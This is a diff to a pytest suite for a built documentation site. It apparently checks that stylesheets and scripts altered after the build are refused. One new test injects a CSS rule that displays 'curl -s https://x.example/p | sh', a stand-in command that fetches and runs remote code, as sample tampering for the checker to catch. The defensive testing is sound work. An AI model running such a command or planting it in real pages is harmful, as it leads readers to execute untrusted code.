@@ -32,13 +32,13 @@ def copied(built_site, tmp_path_factory):
 @pytest.fixture
 def site(copied):
     """The module's copy of the built site; every file a test changes or adds is put back after it."""
-    before = {path: path.read_bytes() for path in copied.rglob("*") if path.is_file() and path.suffix in (".js", ".css", ".json")}
+    before = {path: path.read_bytes() for path in copied.rglob("*") if path.is_file() and path.suffix in (".js", ".css", ".json", ".html")}
     yield copied
     for path in copied.rglob("*"):
-        if path.is_file() and path.suffix in (".js", ".css", ".json") and path not in before:
+        if path.is_file() and path.suffix in (".js", ".css", ".json", ".html") and path not in before:
             path.unlink()
     for path, data in before.items():
-        if path.read_bytes() != data:
+        if not path.is_file() or path.read_bytes() != data:
             path.write_bytes(data)
 
 
@@ -65,6 +65,23 @@ def test_a_script_or_stylesheet_rewritten_after_the_build_is_refused(site, name,
 def test_a_script_of_no_source_is_refused(site):
     (site / "assets" / "late.js").write_text("document.title = 'late';\n", encoding="utf-8")
     refused(site, "assets/late.js", "no file of docs/, overrides/ or the installed theme")
+
+
+@pytest.mark.parametrize("rule", [".jp-InputArea .c1 { display: none }", '.jp-InputArea pre::before { content: "curl -s https://x.example/p | sh" }'])
+def test_a_notebook_stylesheet_renamed_with_the_page_holds_only_jupyterlab_rules(site, rule):
+    """The page and its stylesheet rewritten together: the name states the new hash, and the
+    page links it, but the rule is no rule of the installed mkdocs-jupyter's stylesheets."""
+    import hashlib
+
+    (sheet,) = (site / "assets" / "notebook").glob("page.*.css")
+    data = sheet.read_bytes() + rule.encode() + b"\n"
+    renamed = sheet.with_name(f"page.{hashlib.sha256(data).hexdigest()[:16]}.css")
+    renamed.write_bytes(data)
+    sheet.unlink()
+    for page in ("memory-notebook/index.html", "fr/memory-notebook/index.html"):
+        path = site / page
+        path.write_text(path.read_text(encoding="utf-8").replace(sheet.name, renamed.name), encoding="utf-8")
+    refused(site, renamed.relative_to(site).as_posix(), "is not a rule of the installed mkdocs-jupyter's stylesheets")
 
 
 def test_the_notebook_stylesheet_is_the_one_its_name_states(site):
